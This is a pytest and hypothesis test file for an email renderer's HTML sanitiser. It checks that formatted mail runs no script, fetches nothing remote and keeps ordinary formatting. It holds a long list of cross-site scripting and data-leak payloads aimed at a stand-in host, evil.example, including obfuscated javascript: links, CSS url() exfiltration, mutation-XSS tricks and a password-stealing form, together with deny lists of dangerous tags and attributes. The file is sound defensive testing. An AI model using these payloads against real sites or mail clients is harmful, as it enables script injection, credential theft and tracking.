"""The formatted form of a mail: nothing runs, nothing is fetched, nothing leads to us, and what was written is there."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from svardesk.channels.email.showing import Shown, shown

FILES = {"logo@x": "data:image/png;base64,AAAA"}


class Seen(HTMLParser):
    """All that a page holds, as a browser would take it apart."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def body(found: Shown) -> str:
    """What became of the mail, without the page around it."""
    return found.page.split("<body>", 1)[1].rsplit("</body>", 1)[0]


def check_harmless(found: Shown, *, pictures: bool) -> Seen:
    """Whatever was put in: nothing of it runs, fetches, covers or leaves the frame."""
    inside = body(found)
    seen = Seen(inside)
    assert not set(seen.tags) & {
        "script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "applet", "form", "input", "button",
        "select", "textarea", "svg", "math", "video", "audio", "source", "track", "picture", "template", "noscript", "body",
        "html", "head", "title", "area", "map", "portal", "dialog", "marquee",
    }, inside  # fmt: skip
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), inside
        assert name not in {
            "id",
            "class",
            "name",
            "srcset",
            "background",
            "action",
            "formaction",
            "poster",
            "ping",
            "target",
        }
        low = re.sub(r"[\x00-\x20]", "", value.lower())
        assert "javascript:" not in low, inside
        assert "vbscript:" not in low, inside
        if name == "src":
            good = low.startswith("data:image/") or (pictures and low.startswith(("https://", "http://")))
            assert tag == "img", inside
            assert good, inside
        elif name == "href":
            assert low.startswith(("https://", "http://", "//", "mailto:", "tel:")), inside
        elif name == "style":
            assert not re.search(r"url\(|expression|@import|position|z-index|\\|behavior|-moz-binding", low), inside
        else:
            assert not low.startswith("data:"), inside
    for tag, name, value in seen.attributes:
        if tag == "a" and name == "rel":
            assert {"noopener", "noreferrer"} <= set(value.split())
    return seen


VECTORS = {
    "script": "<script>alert(1)</script>",
    "script by source": '<script src="https://evil.example/x.js"></script>',
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "on load": '<img src="x" onerror="alert(1)">',
    "on load, other case": "<IMG SRC=x OnErRoR=alert(1)>",
    "on load, slash": "<img/src=x/onerror=alert(1)>",
    "on pointer": '<p onmouseover="alert(1)" onfocus=alert(1) tabindex=1 autofocus>x</p>',
    "on toggle": "<details open ontoggle=alert(1)>x</details>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link, in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript link, with tabs": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript link, after blanks": '<a href=" &#1; javascript:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data picture": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "link into our house": '<a href="/app/settings?delete=1">x</a>',
    "link into our house, relative": '<a href="../../session">x</a>',
    "link to a mark": '<a href="#top">x</a>',
    "link to a part": '<a href="cid:logo@x">x</a>',
    "svg": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg by use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "svg animates": '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "math": '<math href="javascript:alert(1)">x</math>',
    "namespaces mixed": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "namespaces mixed, other way": '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    "style sheet": "<style>body{background:url(https://evil.example/x)}</style>",
    "style sheet imports": "<style>@import 'https://evil.example/x.css';</style>",
    "style sheet by link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "style with address": '<p style="background-image:url(https://evil.example/x)">x</p>',
    "style with address, allowed name": '<p style="background-color:url(https://evil.example/x)">x</p>',
    "style with address, list": '<ul style="list-style-type:url(https://evil.example/x)"><li>x</ul>',
    "style with address, escaped": '<p style="color:u\\72l(https://evil.example/x)">x</p>',
    "style with address, comment": '<p style="color:u/**/rl(https://evil.example/x)">x</p>',
    "style image-set": '<p style="background-color:image-set(\'https://evil.example/x\' 1x)">x</p>',
    "style expression": '<p style="width:expression(alert(1))">x</p>',
    "style binding": '<p style="-moz-binding:url(https://evil.example/x.xml#a);behavior:url(x.htc)">x</p>',
    "style import": '<p style="@import url(https://evil.example/x)">x</p>',
    "covering": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    "covering, absolute": '<a style="position:absolute;inset:0" href="https://evil.example">x</a>',
    "background": '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</table>',
    "background of the page": '<body background="https://evil.example/x" onload="alert(1)">x</body>',
    "srcset": '<img srcset="https://evil.example/x 1x" alt="x">',
    "picture": '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>',
    "low source": '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">',
    "picture button": '<input type="image" src="https://evil.example/x">',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "policy of their own": '<meta http-equiv="Content-Security-Policy" content="img-src *">',
    "form": '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
    "form by attribute": '<button form="f" formaction="https://evil.example">x</button>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with content": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frames": '<frameset><frame src="https://evil.example"></frameset>',
    "object": '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x"></object>',
    "applet": '<applet code="X" codebase="https://evil.example"></applet>',
    "video": '<video poster="https://evil.example/x" src="https://evil.example/y" autoplay></video>',
    "audio": '<audio src="https://evil.example/x" autoplay></audio>',
    "track": '<video><track src="https://evil.example/x"></video>',
    "image map": '<img usemap="#m" src="x"><map name="m"><area href="javascript:alert(1)"></map>',
    "ping": '<a href="https://shop.example" ping="https://evil.example">x</a>',
    "target": '<a href="https://shop.example" target="_top">x</a>',
    "names of ours": '<div id="app" class="banner" name="x">x</div>',
    "end of the page": "</body></html><script>alert(1)</script>",
    "end of the title": "</title><script>alert(1)</script>",
    "conditional comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "comment left open": "<!-- <script>alert(1)</script>",
    "attribute left open": '<a href="https://shop.example" title="x><script>alert(1)</script>',
    "xml": '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl"?>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "portal": '<portal src="https://evil.example"></portal>',
    "null bytes": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x o\x00nerror=alert(1)>",
}  # fmt: skip


@pytest.mark.parametrize("pictures", [False, True])
@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_nothing_runs_and_nothing_is_fetched(vector: str, pictures: bool) -> None:
    found = shown(f"<p>Før</p>{vector}", FILES, pictures=pictures)
    seen = check_harmless(found, pictures=pictures)
    assert seen.text.startswith("Før"), "what was written before it is there"
    if "evil.example" in found.page:
        # Only a link that somebody clicks, or a picture that an agent asked for.
        places = {(tag, name) for tag, name, value in seen.attributes if "evil.example" in value}
        assert places <= ({("a", "href"), ("img", "src")} if pictures else {("a", "href")})


PIECES = st.sampled_from(
    [
        "<", ">", '"', "'", "/", "=", " ", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#x3c;", "<p", "<img src=", "<a href=",
        "javascript:alert(1)", "https://evil.example/x", "//evil.example", "cid:logo@x", "data:text/html,x", " onerror=alert(1)",
        " style=", "url(", "position:fixed", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<script>", "</script>",
        "<title>", "</title>", "<table>", "<td>", "<iframe srcdoc=", "<base href=", "<form action=", "\x00", "\n", "x", "ø",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=25).map("".join), st.booleans())
def test_no_mixture_of_them_gets_through(html: str, pictures: bool) -> None:
    check_harmless(shown(html, FILES, pictures=pictures), pictures=pictures)


def test_pictures_from_elsewhere_are_held_back_and_counted() -> None:
    html = (
        '<p>Hei</p><img src="https://t.example/1.gif" width="1" height="1" alt="a"><img src="HTTP://t.example/2.gif">'
        '<img src="//t.example/3.gif"><img src=" https://t.example/4.gif"><img src="cid:logo@x"><img src="cid:gone"><img>'
        '<img src="/local.gif"><img src="file:///etc/passwd">'
    )
    held = shown(html, FILES)
    assert held.held_back == 4
    assert "t.example" not in held.page
    assert body(held).count("<img") == 9, "their places stay, with what stands there instead"
    assert 'alt="a"' in held.page
    asked = shown(html, FILES, pictures=True)
    assert asked.held_back == 0
    assert re.findall(r'src="([^"]*t\.example[^"]*)"', asked.page) == [
        "https://t.example/1.gif", "HTTP://t.example/2.gif", "https://t.example/3.gif", " https://t.example/4.gif",
    ]  # fmt: skip
    assert "local.gif" not in asked.page
    assert "passwd" not in asked.page


def test_pictures_of_the_mail_itself_are_shown_and_only_those() -> None:
    found = shown('<img src="cid:logo@x"><img src="CID:<logo@x>"><img src="cid:other">', FILES)
    assert re.findall(r"<img[^>]*>", body(found)) == [
        '<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA">', "<img>",
    ]  # fmt: skip
    assert found.held_back == 0


def test_the_policy_lets_nothing_run_and_nothing_be_fetched() -> None:
    policy = dict(part.strip().split(" ", 1) for part in shown("", {}).policy.split(";"))
    assert policy == {
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "img-src": "'self' data:",
        "sandbox": "allow-popups allow-popups-to-escape-sandbox",
        "frame-ancestors": "'self'",
    }
    asked = shown("", {}, pictures=True).policy
    assert "img-src 'self' data: https: http:;" in asked
    assert "allow-scripts" not in asked
    assert "allow-same-origin" not in asked


def test_the_subject_is_text() -> None:
    found = shown("x", {}, title="</title><script>alert(1)</script>{0}%s")
    assert "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;{0}%s</title>" in found.page


def test_what_a_mail_looks_like_stays() -> None:
    html = (
        '<div style="font-family:Arial;color:#333;margin:0 0 8px"><h2 align="center">Tilbud</h2>'
        '<table width="600" style="border-collapse:collapse"><tr><td style="padding:4px;background-color:#eee">æøå</td></tr>'
        '</table><ul><li>en</li></ul><blockquote>sitat</blockquote><a href="https://butikk.example/?a=1&amp;b=2">lenke</a>'
        '<a href="mailto:post@butikk.example">post</a><a href="tel:+4722222222">ring</a><font color="red">rød</font></div>'
    )
    inside = body(shown(html, {}))
    for kept in (
        "font-family:Arial", "color:#333", "margin:0 0 8px", '<h2 align="center">', 'width="600"', "border-collapse:collapse",
        "background-color:#eee", "æøå", "<li>en</li>", "<blockquote>sitat</blockquote>", "mailto:post@butikk.example",
        "https://butikk.example/?a=1&amp;b=2", "tel:+4722222222", '<font color="red">',
    ):  # fmt: skip
        assert kept in inside, kept
    assert 'rel="noopener noreferrer nofollow"' in inside
